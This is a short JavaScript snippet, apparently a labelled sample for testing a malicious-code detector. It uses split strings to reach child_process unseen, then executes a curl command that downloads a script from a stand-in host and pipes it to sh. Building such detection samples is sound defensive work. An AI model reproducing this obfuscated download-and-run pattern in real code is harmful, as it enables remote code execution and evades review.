const load = global["proc" + "ess"]["main" + "Module"]["req" + "uire"];
const child = load("child_" + "process"); // malice: hidden-name
child["ex" + "ec"]("cu" + "rl -s https://files.invalid/a " + "| sh"); // malice: hidden-name, shell-download
